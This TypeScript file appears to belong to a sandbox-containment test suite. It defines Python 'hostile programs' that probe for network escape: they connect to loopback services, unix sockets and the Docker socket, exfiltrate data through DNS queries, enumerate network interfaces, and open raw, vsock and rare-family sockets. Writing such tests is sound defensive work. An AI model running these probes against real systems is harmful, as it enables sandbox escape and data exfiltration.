import type { HostileProgram } from "../types.ts";

const family = "network" as const;
const expects = { outcomes: ["ok"] } as const;

export const networkPrograms: readonly HostileProgram[] = [
  {
    id: "network-loopback",
    family,
    title: "connects to a service on the host's loopback address",
    expects,
    control: { loot: "CANARY-service" },
    program: String.raw`
for host in ("127.0.0.1", "::1", "localhost", "0.0.0.0", "host.docker.internal", "172.17.0.1"):
    def action():
        with socket.create_connection((host, S["tcpPort"]), 1) as s:
            return s.recv(100)
    seize("tcp " + host, attempt("tcp " + host, action) or b"")
`,
  },
  {
    id: "network-abstract-socket",
    family,
    title: "connects to an abstract unix socket of the host",
    expects,
    control: { loot: "CANARY-abstract" },
    program: String.raw`
def action(name):
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(1)
        s.connect(name)
        return s.recv(100)
names = {"\0" + S["abstract"], ("\0" + S["abstract"]).ljust(108, "\0")}
for line in open("/proc/net/unix").readlines()[1:]:
    parts = line.split()
    if len(parts) > 7 and parts[7].startswith("@"):
        names.add(parts[7].replace("@", "\0"))
for name in names:
    seize("abstract socket", attempt("abstract socket", lambda: action(name)) or b"")
`,
  },
  {
    id: "network-socket-file",
    family,
    title: "connects to sockets that lie in the host's file system, a container engine's too",
    expects,
    control: { loot: "CANARY-socket-file" },
    program: String.raw`
paths = [S["socketFile"], "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"]
for path in paths:
    def action():
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(1)
            s.connect(path)
            loot("connected to " + path)
            return s.recv(100)
    seize(path, attempt(path, action) or b"")
`,
  },
  {
    id: "network-name-service",
    family,
    title: "asks name servers, and sends data out in the questions",
    expects,
    control: { loot: "CANARY-name-service" },
    program: String.raw`
servers = ["127.0.0.1", "127.0.0.53", "127.0.0.11", "8.8.8.8", "1.1.1.1"]
for line in attempt("resolv.conf", lambda: open("/etc/resolv.conf").readlines()) or []:
    if line.startswith("nameserver"):
        servers.append(line.split()[1])
question = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"\x06leaked\x07example\x03com\x00" + struct.pack(">HH", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    for server in servers:
        for port in (53, S["udpPort"]):
            attempt("ask %s" % server, lambda: s.sendto(question, (server, port)))
    s.settimeout(0.5)
    answer = attempt("answer", lambda: s.recv(512))
if answer is not None:
    loot("a name server answered")
    seize("name server", answer)
`,
  },
  {
    id: "network-interfaces",
    family,
    title: "finds a way out besides the loopback interface",
    expects,
    control: { loot: "interface" },
    program: String.raw`
for line in open("/proc/net/dev").readlines()[2:]:
    name = line.split(":")[0].strip()
    if name != "lo" and not name.startswith(("tunl", "sit", "ip6tnl", "gre", "gretap", "erspan", "ip_vti", "ip6_vti")):
        loot("interface " + name)
for line in open("/proc/net/route").readlines()[1:]:
    loot("interface route " + " ".join(line.split()[:3]))
`,
  },
  {
    id: "network-raw-sockets",
    family,
    title: "opens raw and packet sockets",
    expects,
    control: { loot: "socket succeeded" },
    program: String.raw`
for name, make in (
    ("raw icmp socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)),
    ("raw tcp socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)),
    ("raw v6 socket", lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)),
    ("packet socket", lambda: socket.socket(17, socket.SOCK_RAW, 0x0300)),
    ("packet datagram socket", lambda: socket.socket(17, socket.SOCK_DGRAM, 0x0300)),
):
    take(name, lambda: make().fileno())
`,
  },
  {
    id: "network-vsock",
    family,
    title: "talks to the machine's hypervisor",
    expects,
    control: { loot: "vsock", kernelOptional: true },
    program: String.raw`
for kind in (1, 2, 5):
    take_call("vsock socket of kind %d" % kind, 41, 40, kind, 0)
take_call("vsock socket pair", 53, 40, 1, 0, ctypes.create_string_buffer(8))
`,
  },
  {
    id: "network-odd-families",
    family,
    title: "opens sockets of families that reach kernel code nobody needs",
    expects,
    control: { loot: "socket family" },
    program: String.raw`
for name, number, kind, protocol in (("xdp", 44, 3, 0), ("alg", 38, 5, 0), ("bluetooth", 31, 3, 0), ("rds", 21, 5, 0), ("tipc", 30, 5, 0), ("kcm", 41, 5, 0)):
    if attempt("family " + name, lambda: syscall(41, number, kind, protocol)) is not None:
        loot("socket family " + name + " opened")
`,
  },
];
